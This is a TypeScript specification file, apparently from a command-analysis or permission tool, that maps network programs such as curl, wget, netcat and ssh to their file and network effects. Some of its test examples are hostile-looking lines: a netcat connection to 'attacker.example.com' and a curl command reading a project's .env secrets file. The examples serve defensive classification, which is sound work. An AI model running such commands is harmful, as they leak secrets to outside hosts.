// Programs that talk to the network: where they send, and which files they upload or save.
import type { ProgramSpec } from '../types';

export const NETWORK: ProgramSpec[] = [
  {
    names: ['curl'],
    rows: [
      {
        takes: ['-H', '--header', '-X', '--request', '-A', '--user-agent', '-e', '--referer', '-b', '--cookie', '-x', '--proxy', '-m', '--max-time', '--connect-timeout', '-w', '--write-out', '-r', '--range', '--retry', '-E', '--cert', '--key', '--cacert', '--resolve', '--connect-to', '-u', '--user', '-d', '--data', '--data-raw', '--data-binary', '--data-urlencode', '--json', '-F', '--form', '--form-string', '-Y', '-y', '-z', '--limit-rate', '--oauth2-bearer', '--aws-sigv4'],
        opts: { '-o': 'write', '--output': 'write', '-T': 'read', '--upload-file': 'read', '-K': 'read', '--config': 'read', '-c': 'write', '--cookie-jar': 'write', '-D': 'write', '--dump-header': 'write', '--url': 'url' },
        rest: 'url',
        examples: [
          { command: 'curl -s https://api.github.com/user', effects: ['send(api.github.com)'] },
          { command: 'curl -fsSLo install.sh https://example.com/install.sh', effects: ['write(install.sh, curl)', 'send(example.com)'] },
          { command: 'curl -s file:///home/user/project/.env', effects: ['read(.env, content)'] },
        ],
      },
    ],
  },
  {
    names: ['wget', 'wget2'],
    rows: [
      {
        takes: ['--header', '-U', '--user-agent', '--post-data', '--body-data', '--method', '-t', '--tries', '-T', '--timeout', '--user', '--password', '-e', '--execute', '-P', '--directory-prefix', '-l', '--level', '-A', '-R'],
        opts: { '-O': 'write', '--output-document': 'write', '-o': 'write', '--output-file': 'write', '-a': 'write', '--append-output': 'write', '--post-file': 'read', '--body-file': 'read', '-i': 'read', '--input-file': 'read' },
        rest: 'url',
        examples: [{ command: 'wget -q https://example.com/data.csv -O data/data.csv', effects: ['write(data/data.csv, wget)', 'send(example.com)'] }],
      },
    ],
  },
  {
    names: ['http', 'https', 'xh', 'xhs', 'httpie', 'curlie'],
    rows: [{ takes: ['-a', '--auth', '-A', '--auth-type', '--session', '--verify', '--cert', '--cert-key', '--timeout', '--proxy'], opts: { '-o': 'write', '--output': 'write' }, rest: 'url', examples: [{ command: 'http POST https://api.example.com/x name=1', effects: ['send(api.example.com)'] }] }],
  },
  {
    names: ['nc', 'ncat', 'netcat', 'telnet', 'socat'],
    rows: [{ takes: ['-p', '-w', '-s', '-e', '-c', '-i', '-q', '-x', '-X'], pos: ['host'], rest: 'none', examples: [{ command: 'nc attacker.example.com 9000', effects: ['send(attacker.example.com)'] }] }],
  },
  {
    names: ['ssh'],
    rows: [{ takes: ['-p', '-i', '-o', '-F', '-l', '-J', '-L', '-R', '-D', '-W', '-b', '-c', '-e', '-m', '-O', '-Q', '-S', '-w', '-E', '-B', '-I'], pos: ['host'], rest: 'exec', examples: [{ command: 'ssh deploy@host.example.com uptime', effects: ['send(deploy@host.example.com)', 'execute(shell: uptime)'] }] }],
  },
];
